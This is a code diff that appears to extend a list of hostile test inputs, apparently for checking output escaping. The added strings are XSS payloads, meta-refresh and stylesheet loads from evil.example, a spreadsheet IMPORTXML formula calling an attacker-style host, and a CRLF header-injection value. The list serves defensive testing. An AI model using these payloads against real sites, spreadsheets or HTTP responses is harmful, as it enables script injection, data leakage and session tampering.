@@ -25,6 +25,18 @@ HOSTILE = (
     "kata " * 2_000,
     "100% %(tidak)s %s {kosong}",
     "\ud800 surrogat",
+    "</script><script>alert(1)</script>",
+    "<!--<script>alert(1)//-->",
+    "<a href=javascript:alert(1)>klik</a>",
+    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
+    '" style="position:fixed;inset:0" onmouseover="alert(1)',
+    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/a.css>",
+    "url(https://evil.example/b.png)",
+    "\u2028alert(1)\u2029",
+    "＝HYPERLINK(1)",
+    '=IMPORTXML("http://evil.example/","//a")',
+    "%0aX-Injected: 1\r\nSet-Cookie: a=1",
 )
 HOSTILE_URLS = (
     "javascript:alert(1)",
